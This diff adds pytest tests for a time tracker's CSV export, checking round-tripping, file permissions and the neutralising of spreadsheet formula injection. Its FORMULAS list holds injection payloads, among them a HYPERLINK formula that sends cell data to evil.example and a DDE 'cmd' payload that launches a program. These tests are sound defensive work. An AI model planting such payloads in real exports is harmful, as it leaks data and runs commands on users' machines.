@@ -1,0 +1,80 @@
+"""What leaves as CSV: read back by a parser it is what it was, and no cell is a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import stat
+import sys
+from datetime import time
+from typing import TYPE_CHECKING
+
+import pytest
+
+from demitasse.domain.errors import BadInput, LocalFault
+from demitasse.tracker.export import COLUMNS, as_csv, write
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+    from tests.tracker.conftest import Desk
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1|cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1",
+    "\0=1+1", "＝1+1", "=cmd|' /C calc'!A0", "\n@x",
+)  # fmt: skip
+
+
+def read(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_a_day_in_the_order_it_was_worked(desk: Desk) -> None:
+    desk.sheets.add(1, 1, 5400, comment='Fix "login", then\nwait', start_time=time(8), end_time=time(9, 30))
+    desk.timer.start(2, 2, "Über uns")
+    desk.clock.advance(61)
+    text = as_csv([desk.sheets.day()])
+    assert text.startswith(",".join(COLUMNS) + "\r\n")
+    first, second = read(text)
+    assert first == {
+        "day": "2026-03-02", "start": "08:00", "end": "09:30", "duration": "1:30:00", "seconds": "5400",
+        "client": "Acme", "project": "Website relaunch", "task": "Coding", "comment": 'Fix "login", then\nwait',
+        "state": "waiting",
+    }  # fmt: skip
+    assert (second["duration"], second["state"], second["comment"], second["end"]) == (
+        "0:01:01", "running", "Über uns", "",
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("words", FORMULAS)
+def test_no_text_is_a_formula(desk: Desk, words: str) -> None:
+    row = desk.sheets.add(1, 1, 60)
+    with desk.store.transaction():
+        for statement in ("UPDATE entry SET comment = ? WHERE id = ?", "UPDATE project SET name = ? WHERE id = ?"):
+            desk.store.database.write(statement, (words, row.id))
+    (told,) = read(as_csv([desk.sheets.day()]))
+    for name in ("comment", "project"):
+        assert told[name] == "'" + words.replace("\0", "")
+    assert not [cell for cell in told.values() if cell.lstrip()[:1] in set("=+-@＝")], "nor anything else"
+    assert told["seconds"] == "60", "a number stays a number"
+
+
+def test_innocent_text_stays_as_it_is(desk: Desk) -> None:
+    desk.sheets.add(1, 1, 60, comment="a=b + c @ d - 'e'")
+    assert read(as_csv([desk.sheets.day()]))[0]["comment"] == "a=b + c @ d - 'e'"
+
+
+def test_a_file_is_private_whole_and_never_replaced_without_a_word(tmp_path: Path) -> None:
+    file = tmp_path / "days.csv"
+    write(file, "ä\r\n", force=False)
+    assert file.read_bytes() == b"\xef\xbb\xbf\xc3\xa4\r\n"
+    if sys.platform != "win32":
+        assert stat.S_IMODE(file.stat().st_mode) == 0o600
+    with pytest.raises(BadInput, match="exists already"):
+        write(file, "b", force=False)
+    assert file.read_bytes().endswith(b"\xc3\xa4\r\n")
+    write(file, "c", force=True)
+    assert file.read_text(encoding="utf-8-sig") == "c"
+    with pytest.raises(LocalFault):
+        write(tmp_path / "nowhere" / "days.csv", "d", force=True)
+    assert [one.name for one in tmp_path.iterdir() if one.is_file()] == ["days.csv"], "no draft is left behind"
